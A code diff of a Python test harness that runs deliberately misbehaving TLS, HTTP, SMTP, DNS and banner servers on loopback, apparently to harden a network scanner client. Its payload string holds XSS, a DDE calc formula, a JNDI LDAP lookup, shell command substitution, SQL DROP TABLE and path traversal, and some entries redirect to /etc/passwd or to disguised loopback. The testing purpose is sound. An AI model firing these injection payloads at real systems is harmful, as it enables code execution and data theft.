@@ -2,8 +2,10 @@
 
     async with HOSTILE["tls.drip"]() as (address, port): ...
 
-The name begins with the protocol that the client believes it speaks: tls, http, smtp, dns (UDP), dnstcp, banner.
-None of them ever waits for anything but its client, and all of them stop when the block ends.
+The name begins with the protocol that the client believes it speaks: tls, http, smtp, dns (UDP), dnstcp (whose UDP side
+sends everybody to TCP), banner, and cert and chain, whose handshakes are those of OpenSSL or, where OpenSSL would not
+show such a certificate, records by hand. None of them ever waits for anything but its client, and all of them stop when
+the block ends.
 """
 
 from __future__ import annotations
@@ -15,111 +17,39 @@ import socket
 import struct
 from collections.abc import AsyncIterator, Callable
 from contextlib import AbstractAsyncContextManager, asynccontextmanager
+from ssl import SSLContext
+from typing import Protocol
+
+from OpenSSL import SSL
 
 from posture.range.listening import Conversation, Peer, TcpPort, bind_both
-
-ADDRESS = "127.0.20.66"
-DRIP = 0.05  # seconds between two bytes
-Factory = Callable[[], AbstractAsyncContextManager[tuple[str, int]]]
-
-# Text for terminals, web pages, shells, logs, formats and databases to trip over.
-INJECTION = (
-    b"\x1b]0;owned\x07\x1b[2J\x1b[31m<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
-    b"=cmd|' /C calc'!A0 %s%n {0.__class__} ${jndi:ldap://x.test/a} $(id) `id` ; DROP TABLE findings; -- "
-    b"../../etc/passwd \xff\xfe\x00\xc0\xaf\xe2\x80\xae"
+from tests.lab import hostile_certificates as certificates
+from tests.lab.hostile_dns import DNS, DNS_TCP, dns_reply, framed
+from tests.lab.misbehaviour import (
+    INJECTION,
+    after,
+    deaf,
+    drips,
+    echo,
+    floods,
+    half_closes,
+    hang_up,
+    resets,
+    says,
+    silent,
+    stays,
 )
 
+__all__ = ["ADDRESS", "DNS", "HOSTILE", "INJECTION", "Factory"]
 
-# ---- ways to misbehave, for any protocol
-
-
-async def silent(peer: Peer) -> None:
-    """Reads everything and says nothing."""
-    while await peer.read(65536):
-        pass
+ADDRESS = "127.0.20.66"
+Standing = AbstractAsyncContextManager[tuple[str, int]]
 
 
-async def deaf(peer: Peer) -> None:
-    """Neither reads nor speaks."""
-    await asyncio.get_running_loop().create_future()
+class Factory(Protocol):
+    """Lets a server stand at an address, with TLS around it where wanted; gives its address and port."""
 
-
-async def hang_up(peer: Peer) -> None:
-    """Closes at once."""
-
-
-def resets(first: bytes = b"", *, wait: bool = True) -> Conversation:
-    """Says ``first`` after the client's first words (or at once), then resets the connection."""
-
-    async def converse(peer: Peer) -> None:
-        if wait:
-            await peer.read(65536)
-        await peer.say(first)
-        connection = peer.writer.get_extra_info("socket")
-        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # RST instead of FIN
-        peer.writer.transport.abort()
-
-    return converse
-
-
-def says(*answers: bytes, wait: bool = True) -> Conversation:
-    """One answer to each thing the client says (or the first at once), then a clean end."""
-
-    async def converse(peer: Peer) -> None:
-        for number, answer in enumerate(answers):
-            if (wait or number) and not await peer.read(65536):
-                return
-            await peer.say(answer)
-
-    return converse
-
-
-def stays(*answers: bytes, wait: bool = True) -> Conversation:
-    """Like :func:`says`, but never closes."""
-    return after(says(*answers, wait=wait), silent)
-
-
-def drips(data: bytes, *, wait: bool = True) -> Conversation:
-    """One byte at a time, slowly, again and again: every read succeeds and nothing ever ends."""
-
-    async def converse(peer: Peer) -> None:
-        if wait:
-            await peer.read(65536)
-        for byte in itertools.cycle(data):
-            await peer.say(bytes([byte]))
-            await asyncio.sleep(DRIP)
-
-    return converse
-
-
-def floods(first: bytes, again: bytes, *, wait: bool = True) -> Conversation:
-    """``first``, then ``again`` for ever, as fast as the client takes it."""
-
-    async def converse(peer: Peer) -> None:
-        if wait:
-            await peer.read(65536)
-        await peer.say(first)
-        while True:
-            await peer.say(again)
-            await asyncio.sleep(0)  # a fast client must not keep the loop to itself
-
-    return converse
-
-
-def after(*parts: Conversation) -> Conversation:
-    """One behaviour after the other."""
-
-    async def converse(peer: Peer) -> None:
-        for part in parts:
-            await part(peer)
-
-    return converse
-
-
-async def echo(peer: Peer) -> None:
-    """Says whatever it hears."""
-    while data := await peer.read(65536):
-        await peer.say(data)
+    def __call__(self, address: str = ADDRESS, *, tls: SSLContext | None = None) -> Standing: ...
 
 
 # ---- TLS: records by hand (RFC 8446 section 5.1, RFC 5246 section 7.4)
@@ -134,9 +64,14 @@ def handshake(kind: int, body: bytes, *, length: int | None = None) -> bytes:
 
 
 def server_hello(
-    *, suite: int = 0xC02F, version: int = 0x0303, extensions: bytes = b"", random: bytes = b"r" * 32
+    *,
+    suite: int = 0xC02F,
+    version: int = 0x0303,
+    extensions: bytes = b"",
+    random: bytes = b"r" * 32,
+    compression: int = 0,
 ) -> bytes:
-    body = struct.pack("!H", version) + random + b"\0" + struct.pack("!HB", suite, 0)
+    body = struct.pack("!H", version) + random + b"\0" + struct.pack("!HB", suite, compression)
     return handshake(2, body + (struct.pack("!H", len(extensions)) + extensions if extensions else b""))
 
 
@@ -147,14 +82,52 @@ _FATAL = record(21, b"\x02\x28")
 _SILLY_EXTENSIONS = struct.pack("!HH", 0xFF01, 0xFFFF) + b"x"
 
 
-def flaky() -> Conversation:
-    """Every second connection is reset, the others are refused with an alert: two answers to one question."""
-    turn = itertools.cycle((says(_FATAL), resets()))
+def in_turns(*parts: Conversation) -> Conversation:
+    """One connection is met so, the next one so: several answers to one question."""
+    turn = itertools.cycle(parts)
 
     async def converse(peer: Peer) -> None:
         await next(turn)(peer)
 
     return converse
+
+
+async def _greet(peer: Peer) -> None:
+    """A whole handshake, and a small page."""
+    await peer.start_tls(certificates.context("cert.a_thousand_names"))
+    await peer.read()
+    await peer.say(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
+
+
+async def _late(peer: Peer) -> None:
+    await asyncio.sleep(0.5)
+    await _greet(peer)
+
+
+async def _renegotiates_without_end(peer: Peer) -> None:
+    """Asks for another handshake whenever one is over (RFC 5246 section 7.4.1.1)."""
+    context = SSL.Context(SSL.TLS_SERVER_METHOD)
+    context.set_max_proto_version(SSL.TLS1_2_VERSION)
+    certificate, key = certificates.pair()
+    context.use_certificate(certificate)
+    context.use_privatekey(key)
+    tls = SSL.Connection(context, None)
+    tls.set_accept_state()
+    over = False
+    while not over:
+        try:
+            tls.do_handshake()
+            tls.renegotiate()
+        except SSL.WantReadError:
+            pass
+        except SSL.Error:  # the alert is still to be said
+            over = True
+        try:
+            await peer.say(tls.bio_read(65536))
+        except SSL.WantReadError:
+            if over or not (data := await peer.read()):
+                return
+            tls.bio_write(data)
 
 
 TLS: dict[str, Conversation] = {
@@ -165,7 +138,11 @@ TLS: dict[str, Conversation] = {
     "reset_at_once": resets(wait=False),
     "reset_midway": resets(record(22, server_hello())[:20]),
     "reset_after_hello": resets(record(22, server_hello())),
-    "flaky": flaky(),
+    "flaky": in_turns(says(_FATAL), resets()),
+    "flaky_but_real": in_turns(_greet, resets()),
+    "late": _late,
+    "renegotiates_without_end": _renegotiates_without_end,
+    "half_closes": half_closes,
     "drip": drips(record(22, server_hello(), length=16384)),
     "drip_alerts": drips(record(21, b"\x01\x00")),
     "echo": echo,
@@ -189,6 +166,7 @@ TLS: dict[str, Conversation] = {
         record(22, b"\0\0\1x" * 4096),
     ),
     "certificates_of_one_byte": stays(record(22, server_hello()) + record(22, handshake(11, _CERTIFICATES))),
+    "compression_never_offered": says(record(22, server_hello(compression=1))),
     "hello_twice": stays(record(22, server_hello() + server_hello(suite=0x0005))),
 }
 
@@ -202,6 +180,14 @@ _BLOCK = b"x" * 65536
 
 def _redirect(location: bytes) -> Conversation:
     return says(b"HTTP/1.1 302 Found\r\nLocation: " + location + b"\r\nContent-Length: 0\r\n\r\n")
+
+
+_NUMBER = itertools.count()
+
+
+async def _redirects_without_end(peer: Peer) -> None:
+    await peer.read()
+    await peer.say(b"HTTP/1.1 307 Next\r\nLocation: /%d\r\nContent-Length: 0\r\n\r\n" % next(_NUMBER))
 
 
 HTTP: dict[str, Conversation] = {
@@ -233,6 +219,12 @@ HTTP: dict[str, Conversation] = {
     "redirect_to_a_file": _redirect(b"file:///etc/passwd"),
     "redirect_to_nonsense": _redirect(b"http://[::1:x]:99999/\xff%%%"),
     "redirect_of_a_megabyte": _redirect(b"https://" + b"a" * 1_000_000 + b".test/"),
+    "redirects_without_end": _redirects_without_end,
+    "redirect_to_loopback_in_disguise": _redirect(b"http://[::ffff:127.0.0.1]:22/"),
+    "half_closes": half_closes,
+    "upgrade_never_asked": says(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\n\r\n" + INJECTION),
+    "thousands_of_fields": says(_OK + b"X: y\r\n" * 5000 + b"\r\n"),
+    "deflate_of_nonsense": says(_OK + b"Content-Encoding: deflate\r\nContent-Length: 9\r\n\r\n" + b"\xff" * 9),
     "injecting_headers": says(_OK + b"Server: " + INJECTION.replace(b"\x00", b"") + b"\r\nContent-Length: 0\r\n\r\n"),
     "nul_in_headers": says(_OK + b"Ser\x00ver: a\x00b\r\n\r\n"),
     "injecting_body": says(_OK + b"Content-Length: %d\r\n\r\n" % len(INJECTION) + INJECTION),
@@ -245,10 +237,18 @@ _GREETING = b"220 mx.test ESMTP\r\n"
 _EHLO = b"250-mx.test\r\n250 STARTTLS\r\n"
 _GO_AHEAD = b"220 Go ahead\r\n"
 
+_TOO_MANY = b"421 4.7.0 Too many connections\r\n"
+
 SMTP: dict[str, Conversation] = {
     "silent": silent,
     "hang_up": hang_up,
     "busy": says(b"421 4.3.2 Try again later\r\n", wait=False),
+    "busy_after_ehlo": stays(_GREETING, _TOO_MANY, wait=False),
+    "busy_after_starttls": stays(_GREETING, _EHLO, _TOO_MANY, wait=False),
+    "pipelined_junk": stays(_GREETING + _EHLO + _GO_AHEAD + INJECTION + b"\r\n", wait=False),
+    "nul_in_reply": stays(b"220 mx\0.test\r\n", b"250-mx\0.test\r\n250 START\0TLS\r\n", wait=False),
+    "half_closes": half_closes,
+    "starttls_answer_for_ever": after(says(_GREETING, _EHLO, wait=False), floods(b"", b"220-wait\r\n")),
     "rejecting": stays(b"554 5.7.1 Go away\r\n", wait=False),
     "drip_greeting": drips(b"220-mx.test\r\n", wait=False),
     "greeting_for_ever": floods(b"", b"220-mx.test is very pleased to meet you\r\n", wait=False),
@@ -270,70 +270,10 @@ SMTP: dict[str, Conversation] = {
 }
 
 
-# ---- DNS (RFC 1035)
-
-
-def dns_reply(
-    query: bytes, *, flags: int = 0x8180, counts: tuple[int, int, int, int] = (1, 0, 0, 0), rest: bytes = b""
-) -> bytes:
-    """The query's id and question under a header of our own; ``rest`` follows."""
-    end = query.index(b"\0", 12) + 5 if b"\0" in query[12:] else len(query)
-    return query[:2] + struct.pack("!H4H", flags, *counts) + query[12:end] + rest
-
-
-def _wrong_id(query: bytes) -> bytes:
-    reply = dns_reply(query)
-    return bytes([reply[0] ^ 0xFF]) + reply[1:]
-
-
-_SELF = b"\xc0\x0c"  # a pointer to the question's name
-_CNAME_TO_ITSELF = _SELF + struct.pack("!HHIH", 5, 1, 60, 2) + _SELF
-_A_CUT_SHORT = _SELF + struct.pack("!HHIH", 1, 1, 60, 4) + b"\x7f"
-_A_OF_NINE = _SELF + struct.pack("!HHIH", 1, 1, 60, 9) + b"\x7f" * 9
-_TXT_LYING = _SELF + struct.pack("!HHIH", 16, 1, 60, 4) + b"\xffabc"
-_TXT_INJECTING = _SELF + struct.pack("!HHIHB", 16, 1, 60, len(INJECTION) + 1, len(INJECTION)) + INJECTION
-_OTHER_QUESTION = b"\x04evil\x04test\x00\x00\x01\x00\x01"
-
-DNS: dict[str, Callable[[bytes], bytes | None]] = {
-    "silent": lambda _: None,
-    "empty": lambda _: b"",
-    "three_bytes": lambda query: query[:3],
-    "garbage": lambda _: INJECTION,
-    "echo": lambda query: query,
-    "wrong_id": _wrong_id,
-    "wrong_question": lambda query: query[:2] + struct.pack("!H4H", 0x8180, 1, 0, 0, 0) + _OTHER_QUESTION,
-    "no_question": lambda query: dns_reply(query, counts=(0, 0, 0, 0))[:12],
-    "lying_counts": lambda query: dns_reply(query, counts=(1, 65535, 65535, 65535)),
-    "truncated": lambda query: dns_reply(query, flags=0x8380),
-    "servfail": lambda query: dns_reply(query, flags=0x8182),
-    "refused": lambda query: dns_reply(query, flags=0x8185),
-    "rcode_from_nowhere": lambda query: dns_reply(query, flags=0x818E),
-    "pointer_loop": lambda query: dns_reply(
-        query, counts=(1, 1, 0, 0), rest=struct.pack("!H", 0xC000 | len(dns_reply(query)))
-    ),
-    "pointer_beyond": lambda query: dns_reply(
-        query, counts=(1, 1, 0, 0), rest=b"\xff\xff" + struct.pack("!HHIH", 1, 1, 1, 0)
-    ),
-    "label_type_from_nowhere": lambda query: dns_reply(query, counts=(1, 1, 0, 0), rest=b"\x80x\0"),
-    "alias_of_itself": lambda query: dns_reply(query, counts=(1, 1, 0, 0), rest=_CNAME_TO_ITSELF),
-    "record_cut_short": lambda query: dns_reply(query, counts=(1, 1, 0, 0), rest=_A_CUT_SHORT),
-    "address_of_nine_bytes": lambda query: dns_reply(query, counts=(1, 1, 0, 0), rest=_A_OF_NINE),
-    "string_longer_than_its_record": lambda query: dns_reply(query, counts=(1, 1, 0, 0), rest=_TXT_LYING),
-    "injecting_text": lambda query: dns_reply(query, counts=(1, 1, 0, 0), rest=_TXT_INJECTING),
-}
-
-DNS_TCP: dict[str, Conversation] = {
-    "silent": silent,
-    "hang_up": hang_up,
-    "reset": resets(),
-    "lying_length": stays(b"\xff\xff" + b"x" * 20),
-    "length_zero": stays(b"\0\0"),
-    "half_a_length": says(b"\x00"),
-    "drip": drips(b"\x40\x00" + b"x" * 1000),
-    "messages_for_ever": floods(b"", b"\x00\x0c" + bytes(12)),
-}
-
 # ---- what a port sweep hears
+
+_NESTED_DOCUMENT = b"\x03a\0\xff\xff\0\0" * 5000
+_NESTED_BSON = struct.pack("<iiiiIB", 21 + len(_NESTED_DOCUMENT), 1, 1, 2013, 0, 0) + _NESTED_DOCUMENT
 
 BANNER: dict[str, Conversation] = {
     "silent": silent,
@@ -354,15 +294,21 @@ BANNER: dict[str, Conversation] = {
     "redis_nested_arrays": stays(b"*1\r\n" * 100_000),
     "mongodb_lying_length": stays(struct.pack("<iiii", 0x7FFFFFFF, 1, 1, 1) + b"x"),
     "rdp_half_an_answer": says(b"\x03\x00\x00\x13\x0e"),
+    "half_closes": half_closes,
+    "yes_to_everything": floods(b"", b"S", wait=True),
+    "tls_alerts_for_ever": floods(b"", b"\x15\x03\x01\x00\x02\x01\x5a"),
+    "mongodb_nested_documents": stays(_NESTED_BSON),
+    "http_page_for_ever": floods(b"HTTP/1.0 200 OK\r\n\r\n", _BLOCK),
+    "smtp_busy": stays(b"421 4.3.2 Try again later\r\n", wait=False),
     "smb_lying_length": stays(b"\x00\xff\xff\xff\xfeSMB"),
 }
 
 
 def _tcp(conversation: Conversation) -> Factory:
     @asynccontextmanager
-    async def stand() -> AsyncIterator[tuple[str, int]]:
-        port = TcpPort(ADDRESS)
-        port.open(conversation)
+    async def stand(address: str = ADDRESS, *, tls: SSLContext | None = None) -> AsyncIterator[tuple[str, int]]:
+        port = TcpPort(address)
+        port.open(conversation, tls=tls)
         try:
             yield port.address, port.number
         finally:
@@ -371,24 +317,82 @@ def _tcp(conversation: Conversation) -> Factory:
     return stand
 
 
-def _udp(answer: Callable[[bytes], bytes | None]) -> Factory:
+def _udp(answer: Callable[[bytes], bytes | None], over_tcp: Conversation | None = None) -> Factory:
+    """A name server over UDP; over TCP it says the same, unless there is a conversation for that."""
+
     @asynccontextmanager
-    async def stand() -> AsyncIterator[tuple[str, int]]:
-        closed, udp = await bind_both(ADDRESS, answer)
+    async def stand(address: str = ADDRESS, *, tls: SSLContext | None = None) -> AsyncIterator[tuple[str, int]]:
+        tcp, udp = await bind_both(address, answer)
+        tcp.open(over_tcp or framed(answer), tls=tls)
         try:
-            yield closed.address, closed.number
+            yield tcp.address, tcp.number
         finally:
             await udp.release()
-            await closed.release()
+            await tcp.release()
 
     return stand
 
 
+def _ask_over_tcp(query: bytes) -> bytes:
+    return dns_reply(query, flags=0x8380)
+
+
+@asynccontextmanager
+async def _never_accepts(address: str = ADDRESS, *, tls: SSLContext | None = None) -> AsyncIterator[tuple[str, int]]:
+    """Listens with a backlog that is full: whoever comes now hears nothing at all, not even that they are refused."""
+    del tls
+    loop = asyncio.get_running_loop()
+    with socket.socket() as listening, socket.socket() as first, socket.socket() as second:
+        listening.bind((address, 0))
+        listening.listen(0)
+        for one in (first, second):
+            one.setblocking(False)
+            one.connect_ex(listening.getsockname())
+        await loop.sock_connect(first, listening.getsockname())
+        yield listening.getsockname()
+
+
+def _shown(name: str) -> Factory:
+    """A certificate or chain, presented by OpenSSL."""
+
+    @asynccontextmanager
+    async def stand(address: str = ADDRESS, *, tls: SSLContext | None = None) -> AsyncIterator[tuple[str, int]]:
+        del tls
+        async with _tcp(_page)(address, tls=certificates.context(name)) as place:
+            yield place
+
+    return stand
+
+
+async def _page(peer: Peer) -> None:
+    await peer.read()
+    await peer.say(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
+
+
+def _by_hand(listed: Callable[[], list[bytes]]) -> Conversation:
+    """A ServerHello and a Certificate in clear, then silence."""
+
+    async def converse(peer: Peer) -> None:
+        await peer.read()
+        chain = b"".join(len(each).to_bytes(3) + each for each in listed())
+        message = handshake(11, len(chain).to_bytes(3) + chain)
+        flight = record(22, server_hello())
+        for start in range(0, len(message), 16384):
+            flight += record(22, message[start : start + 16384])
+        await peer.say(flight)
+        await silent(peer)
+
+    return converse
+
+
 HOSTILE: dict[str, Factory] = {
     **{f"tls.{name}": _tcp(conversation) for name, conversation in TLS.items()},
+    "tls.never_accepts": _never_accepts,
+    **{name: _shown(name) for name in certificates.SHOWN},
+    **{name: _tcp(_by_hand(listed)) for name, listed in certificates.BY_HAND.items()},
     **{f"http.{name}": _tcp(conversation) for name, conversation in HTTP.items()},
     **{f"smtp.{name}": _tcp(conversation) for name, conversation in SMTP.items()},
     **{f"dns.{name}": _udp(answer) for name, answer in DNS.items()},
-    **{f"dnstcp.{name}": _tcp(conversation) for name, conversation in DNS_TCP.items()},
+    **{f"dnstcp.{name}": _udp(_ask_over_tcp, conversation) for name, conversation in DNS_TCP.items()},
     **{f"banner.{name}": _tcp(conversation) for name, conversation in BANNER.items()},
 }
